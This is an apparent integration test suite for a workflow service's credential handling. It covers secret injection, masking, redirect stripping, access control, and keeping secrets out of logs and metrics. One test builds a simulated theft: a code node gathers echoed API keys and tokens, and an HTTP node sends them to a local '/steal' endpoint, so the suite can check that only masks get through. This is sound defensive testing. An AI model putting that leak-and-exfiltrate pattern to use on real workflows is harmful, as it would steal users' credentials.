import { createServer, IncomingMessage, Server, ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { rmSync } from 'node:fs';
import { freePort, logLines, Spawned, spawnCollecting, tempDir, waitForHttp } from '../utils/processes';

const KEY = 'wcs_credentials_bootstrap_key_0123456789';
const root = join(__dirname, '..', '..');

/** What a test server saw of one request. */
interface Seen {
  path: string;
  headers: IncomingMessage['headers'];
}

/** A server that echoes what it got, redirects on /redirect?to=, and hands out OAuth2 tokens on /token. */
async function startEcho(): Promise<{ url: string; seen: Seen[]; tokens: string[]; close: () => Promise<void> }> {
  const seen: Seen[] = [];
  const tokens: string[] = [];
  const server: Server = createServer((req: IncomingMessage, res: ServerResponse) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const url = new URL(req.url!, 'http://echo');
      seen.push({ path: url.pathname + url.search, headers: req.headers });
      if (url.pathname === '/redirect') {
        res.writeHead(307, { location: url.searchParams.get('to')! });
        return res.end();
      }
      if (url.pathname === '/token') {
        const form = new URLSearchParams(Buffer.concat(chunks).toString('utf8'));
        if (form.get('client_secret') !== 'oauth-client-secret-value') {
          res.writeHead(401, { 'content-type': 'application/json' });
          return res.end(JSON.stringify({ error: 'invalid_client' }));
        }
        const token = `access-token-${tokens.length + 1}-abcdef`;
        tokens.push(token);
        res.writeHead(200, { 'content-type': 'application/json' });
        return res.end(JSON.stringify({ access_token: token, token_type: 'Bearer', expires_in: 3600 }));
      }
      res.writeHead(200, { 'content-type': 'application/json' });
      // Echoes everything, the credential included: what a careless or hostile server does.
      res.end(JSON.stringify({ path: url.pathname + url.search, headers: req.headers }));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    seen,
    tokens,
    close: () => new Promise<void>((resolve) => (server.closeAllConnections(), server.close(() => resolve()))),
  };
}

/**
 * Credentials in runs, through a service started from dist (its log is read too): injected at
 * send time, used as the run's user, never found in any answer, record, log line or metric, and
 * never handed to another origin by a redirect.
 */
describe('credentials in runs', () => {
  let service: Spawned;
  let url: string;
  let dataDir: string;
  let echo: Awaited<ReturnType<typeof startEcho>>;
  let other: Awaited<ReturnType<typeof startEcho>>;
  const answers: string[] = [];
  const SECRETS: Record<string, string> = {
    header: 'hdr-secret-value-0001',
    bearer: 'bearer-secret-value-0002',
    password: 'basic-password-value-0003',
    query: 'query-secret-value-0004',
    clientSecret: 'oauth-client-secret-value',
    variable: 'variable-secret-value-0005',
  };

  const call = async (method: string, path: string, body?: unknown, key = KEY) => {
    const res = await fetch(url + path, {
      method,
      headers: { 'x-api-key': key, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    const text = await res.text();
    answers.push(text);
    return { status: res.status, body: text ? JSON.parse(text) : undefined };
  };

  const finished = async (runId: string) => {
    for (const deadline = Date.now() + 60_000; Date.now() < deadline; await new Promise((r) => setTimeout(r, 100))) {
      const run = await call('GET', `/api/v1/runs/${runId}`);
      if (['succeeded', 'failed', 'canceled'].includes(run.body.status)) return run.body;
    }
    throw new Error(`run ${runId} did not finish`);
  };

  beforeAll(async () => {
    echo = await startEcho();
    other = await startEcho();
    dataDir = tempDir('credentials');
    const port = await freePort();
    url = `http://127.0.0.1:${port}`;
    service = spawnCollecting(process.execPath, ['--no-node-snapshot', join(root, 'dist', 'src', 'main.js')], {
      cwd: root,
      env: {
        ...process.env,
        HOST: '127.0.0.1',
        PORT: String(port),
        DATA_DIR: dataDir,
        LOG_LEVEL: 'debug',
        BOOTSTRAP_API_KEY: KEY,
        FETCH_ALLOWED_HOSTS: '127.0.0.1',
        EMBEDDING_THREADS: '1',
        REDIS_URL: '',
      },
    });
    await waitForHttp(`${url}/health/ready`, service);
  }, 120_000);

  afterAll(async () => {
    service?.child.kill('SIGTERM');
    await service?.exited().catch(() => service.child.kill('SIGKILL'));
    await echo?.close();
    await other?.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  const credential = async (body: unknown) => {
    const created = await call('POST', '/api/v1/credentials', body);
    expect(created.status).toBe(201);
    return created.body.id as string;
  };

  const node = (id: string, target: string, credentialId?: string, headers?: string) => ({
    id,
    type: 'http-request',
    parameters: { method: 'GET', url: target, ...(credentialId ? { credential: credentialId } : {}), ...(headers ? { headers } : {}) },
    ...(headers ? { parameterMode: { headers: 'expression' } } : {}),
  });

  it('injects each type at send time, masks what a server echoes, and hands the next node nothing usable', async () => {
    const ids = {
      header: await credential({ name: 'key', type: 'header', settings: { name: 'X-Api-Key' }, secrets: { value: SECRETS.header } }),
      bearer: await credential({ name: 'token', type: 'bearer', secrets: { token: SECRETS.bearer } }),
      basic: await credential({ name: 'login', type: 'basic', settings: { username: 'alice' }, secrets: { password: SECRETS.password } }),
      query: await credential({ name: 'query', type: 'query', settings: { name: 'api_key' }, secrets: { value: SECRETS.query } }),
      oauth: await credential({
        name: 'oauth',
        type: 'oauth2-client-credentials',
        settings: { tokenUrl: `${echo.url}/token`, clientId: 'client-1', scope: 'read' },
        secrets: { clientSecret: SECRETS.clientSecret },
      }),
    };
    const nodes = [
      { id: 'trigger', type: 'webhook-trigger', parameters: {} },
      node('header', `${echo.url}/h`, ids.header),
      node('bearer', `${echo.url}/b`, ids.bearer),
      node('basic', `${echo.url}/a`, ids.basic),
      node('query', `${echo.url}/q?x=1`, ids.query),
      node('oauth', `${echo.url}/o`, ids.oauth),
      // What a node after them sees of the echoes: a Code node tries to carry the values away.
      {
        id: 'leak',
        type: 'code',
        parameters: {
          code: 'return { stolen: [nodes.header.response.body.headers["x-api-key"], nodes.bearer.response.body.headers.authorization, nodes.query.response.body.path] };',
        },
      },
      node('exfiltrate', `${other.url}/steal?v=\${JSON.stringify(nodes.leak)}`),
    ];
    const order = ['trigger', 'header', 'bearer', 'basic', 'query', 'oauth', 'leak', 'exfiltrate'];
    const edges = order.slice(1).map((to, i) => ({ from: order[i], to }));
    (nodes[7] as { parameterMode?: Record<string, string> }).parameterMode = { url: 'expression' };
    const created = await call('POST', '/api/v1/workflows', { name: 'credentialed', definition: { nodes, edges } });
    expect(created.status).toBe(201);
    const started = await call('POST', `/api/v1/workflows/${created.body.id}/runs`, { runType: 'test' });
    const record = await finished(started.body.id);
    expect(record.status).toBe('succeeded');

    // The servers got the real values, each where its type puts it.
    const at = (path: string) => echo.seen.find((s) => s.path.startsWith(path))!;
    expect(at('/h').headers['x-api-key']).toBe(SECRETS.header);
    expect(at('/b').headers.authorization).toBe(`Bearer ${SECRETS.bearer}`);
    expect(at('/a').headers.authorization).toBe(`Basic ${Buffer.from(`alice:${SECRETS.password}`).toString('base64')}`);
    expect(at('/q').path).toBe(`/q?x=1&api_key=${SECRETS.query}`);
    expect(echo.tokens).toHaveLength(1);
    expect(at('/o').headers.authorization).toBe(`Bearer ${echo.tokens[0]}`);
    // Nothing of them went on to the node after: the other server received masks only.
    const stolen = decodeURIComponent(other.seen[0].path);
    for (const value of [SECRETS.header, SECRETS.bearer, SECRETS.query]) expect(stolen).not.toContain(value);
    expect(stolen).toContain('[REDACTED]');
    SECRETS.oauth = echo.tokens[0];
  }, 120_000);

  it('drops a header carrying a credential or a secret variable on a redirect to another origin, keeps it on the same origin', async () => {
    const id = await credential({
      name: 'redirected',
      type: 'header',
      settings: { name: 'X-Api-Key' },
      secrets: { value: SECRETS.header },
    });
    const headers = '({ "x-token": variables.token, "x-trace": "t-1" })';
    const definition = {
      nodes: [
        { id: 'trigger', type: 'webhook-trigger', parameters: {} },
        node('same', `${echo.url}/redirect?to=${encodeURIComponent(`${echo.url}/same-landing`)}`, id, headers),
        node('cross', `${echo.url}/redirect?to=${encodeURIComponent(`${other.url}/cross-landing`)}`, id, headers),
      ],
      edges: [
        { from: 'trigger', to: 'same' },
        { from: 'same', to: 'cross' },
      ],
      variables: [{ name: 'token', type: 'secret', value: SECRETS.variable }],
    };
    const created = await call('POST', '/api/v1/workflows', { name: 'redirects', definition });
    expect(created.status).toBe(201);
    const started = await call('POST', `/api/v1/workflows/${created.body.id}/runs`, { runType: 'test' });
    expect((await finished(started.body.id)).status).toBe('succeeded');
    const same = echo.seen.find((s) => s.path === '/same-landing')!;
    expect(same.headers).toMatchObject({ 'x-api-key': SECRETS.header, 'x-token': SECRETS.variable, 'x-trace': 't-1' });
    const cross = other.seen.find((s) => s.path === '/cross-landing')!;
    expect(cross.headers['x-api-key']).toBeUndefined();
    expect(cross.headers['x-token']).toBeUndefined();
    expect(cross.headers['x-trace']).toBe('t-1');
  }, 120_000);

  it('uses a credential only as a user allowed to: the saver must be, and the run acts as its caller', async () => {
    const id = await credential({ name: 'private', type: 'bearer', secrets: { token: 'private-token-value-0006' } });
    const stranger = await call('POST', '/api/v1/users', { name: 'stranger' });
    const strangerKey = stranger.status === 201 ? (stranger.body.apiKey.key as string) : null;
    if (!strangerKey) throw new Error(`could not create a user: ${JSON.stringify(stranger.body)}`);
    const definition = {
      nodes: [{ id: 'trigger', type: 'webhook-trigger', parameters: {} }, node('call', `${echo.url}/private`, id)],
      edges: [{ from: 'trigger', to: 'call' }],
    };
    const refused = await call('POST', '/api/v1/workflows', { name: 'not mine', definition }, strangerKey);
    expect(refused.status).toBe(400);
    expect(refused.body.details.fields).toEqual([
      expect.objectContaining({
        field: 'nodes[1].parameters.credential',
        nodeId: 'call',
        reason: expect.stringContaining('you may only choose a credential you can use'),
      }),
    ]);
    // An expression cannot pick a credential either.
    const computed = await call('POST', '/api/v1/workflows', {
      name: 'computed',
      definition: {
        ...definition,
        nodes: [
          definition.nodes[0],
          {
            ...definition.nodes[1],
            parameterMode: { credential: 'expression' },
            parameters: { ...definition.nodes[1].parameters, credential: 'input.id' },
          },
        ],
      },
    });
    expect(computed.status).toBe(400);
    expect(computed.body.details.fields).toEqual(
      expect.arrayContaining([expect.objectContaining({ field: expect.stringContaining('parameterMode.credential') })]),
    );
    // Shared with them as editor of the workflow but not of the credential: their runs fail, naming it.
    const mine = await call('POST', '/api/v1/workflows', { name: 'mine', definition });
    await call('PUT', `/api/v1/workflows/${mine.body.id}/members/${stranger.body.id}`, { role: 'editor' });
    const started = await call('POST', `/api/v1/workflows/${mine.body.id}/runs`, { runType: 'test' }, strangerKey);
    const record = await finished(started.body.id);
    expect(record.status).toBe('failed');
    expect(record.error.message).toContain(`Credential ${id} cannot be used`);
    expect(echo.seen.some((s) => s.path === '/private')).toBe(false);
  }, 120_000);

  it('leaves no credential value in any answer, log line or metric', async () => {
    answers.push(JSON.stringify((await call('GET', '/api/v1/runs?limit=100')).body));
    for (const run of (await call('GET', '/api/v1/runs?limit=100')).body.items)
      answers.push(JSON.stringify((await call('GET', `/api/v1/runs/${run.id}`)).body));
    answers.push(JSON.stringify((await call('GET', '/api/v1/credentials?limit=100')).body));
    answers.push(await (await fetch(`${url}/metrics`)).text());
    const everything = [...answers, service.output()].join('\n');
    expect(logLines(service.output()).length).toBeGreaterThan(10);
    for (const [name, value] of Object.entries(SECRETS)) {
      if (name === 'variable') continue;
      expect({ name, found: everything.includes(value) }).toEqual({ name, found: false });
    }
    expect(everything).not.toContain(Buffer.from(`alice:${SECRETS.password}`).toString('base64'));
  });
});
